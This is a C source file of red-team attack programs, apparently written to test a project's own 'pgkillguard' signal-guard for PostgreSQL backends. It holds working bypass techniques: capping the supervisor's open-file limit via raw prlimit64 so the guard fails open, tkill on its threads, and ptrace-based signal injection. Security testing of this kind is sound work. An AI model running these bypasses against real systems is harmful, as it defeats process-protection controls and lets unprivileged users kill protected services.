/*
 * r1.c - red-team attacker programs (review r1 of issue 9).  Run inside an
 * enforced session (`pgkillguard exec`, or a setuid pgkillguard-shell) as a
 * non-root user.  Every system call that matters is raw (syscall(2)), so a
 * preloaded libpgkillguard.so cannot see it.
 *
 *   r1 prlimit SUP SACRIFICE VICTIM SIG
 *        SUP is the supervisor (the setuid shell's pid: getppid() of the
 *        shell it starts).  A racer thread lists SUP/task and calls
 *        prlimit64(TID, RLIMIT_NOFILE, {3,3}) on every thread ($R1_NOFILE
 *        overrides 3; with 0 the supervisor dies in poll(): EINVAL).  The main
 *        thread kill(SACRIFICE, SIGKILL)s: the guard rewrites that into
 *        pg_terminate_backend on an act-as thread that carries OUR uid, so
 *        prlimit's same-uid rule lets us cap the WHOLE supervisor's
 *        RLIMIT_NOFILE.  Then kill(VICTIM, SIG): quick_pass() cannot open
 *        /proc/VICTIM/comm (EMFILE) and answers CONTINUE.
 *        SACRIFICE "self": no cluster process needed, loop
 *        pidfd_send_signal(pidfd(self), SIGWINCH) (also an act-as thread).
 *        Prints "prlimit: hit TID", "supervisor NOFILE: ..." and "kill: ok"
 *        when the signal went through.
 *   r1 tkill SUP SACRIFICE SIG
 *        The same act-as thread, signalled: the racer keeps calling
 *        tkill(TID, SIG) on every thread of SUP (refused: registered).
 *   r1 ptrace PID SIG
 *        PTRACE_ATTACH, wait for the stop, PTRACE_CONT injecting SIG: no
 *        kill-family call at all (known gap, issue 12).
 *   r1 rawkill PID SIG
 *        kill(PID, SIG) by raw system call; prints "kill: ERRNO".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *en(int e)
{
	switch (e) {
	case 0: return "ok";
	case EPERM: return "EPERM";
	case ESRCH: return "ESRCH";
	case EINVAL: return "EINVAL";
	case ENOSYS: return "ENOSYS";
	case EBADF: return "EBADF";
	case EAGAIN: return "EAGAIN";
	case EMFILE: return "EMFILE";
	default: return strerror(e);
	}
}

static long raw_kill(long pid, long sig)
{
	long r = syscall(SYS_kill, pid, sig);
	return r < 0 ? -errno : 0;
}

static pid_t sup;
static int mode_sig;
static rlim_t nofile = 3;	/* poll() of 2 fds still works; every open() fails */
static atomic_int stop, hit;
static enum { M_PRLIMIT, M_TKILL } mode;

static void *racer(void *unused)
{
	(void)unused;
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/task", (int)sup);
	while (!atomic_load(&stop)) {
		DIR *d = opendir(path);
		struct dirent *de;
		if (!d)
			continue;
		while ((de = readdir(d))) {
			long tid = atol(de->d_name);
			if (tid <= 0 || tid == sup)
				continue;
			if (mode == M_PRLIMIT) {
				struct rlimit rl = {nofile, nofile};
				if (syscall(SYS_prlimit64, tid, RLIMIT_NOFILE, &rl, NULL) == 0) {
					if (!atomic_exchange(&hit, (int)tid))
						printf("prlimit: hit %ld\n", tid);
				}
			} else {
				if (syscall(SYS_tkill, tid, mode_sig) == 0) {
					if (!atomic_exchange(&hit, (int)tid))
						printf("tkill: hit %ld\n", tid);
				}
			}
		}
		closedir(d);
	}
	return NULL;
}

static void show_limits(void)
{
	char path[64], buf[4096];
	snprintf(path, sizeof(path), "/proc/%d/limits", (int)sup);
	FILE *f = fopen(path, "r");
	if (!f) {
		printf("supervisor NOFILE: cannot read %s\n", path);
		return;
	}
	while (fgets(buf, sizeof(buf), f))
		if (strstr(buf, "open files"))
			printf("supervisor NOFILE: %s", buf);
	fclose(f);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 4 && !strcmp(argv[1], "rawkill")) {
		printf("kill: %s\n", en((int)-raw_kill(atol(argv[2]), atol(argv[3]))));
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "ptrace")) {
		long pid = atol(argv[2]), r;
		int st;
		r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
		printf("ptrace attach: %s\n", en(r < 0 ? errno : 0));
		if (r < 0)
			return 0;
		waitpid((pid_t)pid, &st, __WALL);
		r = ptrace(PTRACE_CONT, pid, NULL, (void *)atol(argv[3]));
		printf("ptrace cont with signal %s: %s\n", argv[3], en(r < 0 ? errno : 0));
		return 0;
	}
	if ((argc == 6 && !strcmp(argv[1], "prlimit")) || (argc == 5 && !strcmp(argv[1], "tkill"))) {
		pthread_t t;
		long r;
		sup = atoi(argv[2]);
		if (getenv("R1_NOFILE"))
			nofile = (rlim_t)atol(getenv("R1_NOFILE"));
		mode = !strcmp(argv[1], "prlimit") ? M_PRLIMIT : M_TKILL;
		mode_sig = mode == M_TKILL ? atoi(argv[4]) : 0;
		pthread_create(&t, NULL, racer, NULL);
		usleep(20000);
		if (!strcmp(argv[3], "self")) {
			/* no cluster needed: pidfd_send_signal(pidfd(self), SIGWINCH) is
			 * made by the supervisor on an act-as thread; repeat until hit */
			int pfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
			for (int i = 0; i < 20000 && !atomic_load(&hit); i++)
				syscall(SYS_pidfd_send_signal, pfd, SIGWINCH, NULL, 0);
			printf("sacrifice: pidfd_send_signal(self) loop done\n");
		} else {
			r = raw_kill(atol(argv[3]), SIGKILL);	/* rewritten: pg_terminate_backend */
			printf("sacrifice kill: %s\n", en((int)-r));
		}
		usleep(50000);
		atomic_store(&stop, 1);
		pthread_join(t, NULL);
		if (!atomic_load(&hit))
			printf("%s: no hit\n", argv[1]);
		if (mode == M_TKILL)
			return 0;
		show_limits();
		for (int i = 0; i < 3; i++) {	/* the supervisor stays up, failing open */
			r = raw_kill(atol(argv[4]), atol(argv[5]));
			printf("kill: %s\n", en((int)-r));
		}
		return 0;
	}
	fprintf(stderr, "usage: see the comment at the top of r1.c\n");
	return 2;
}
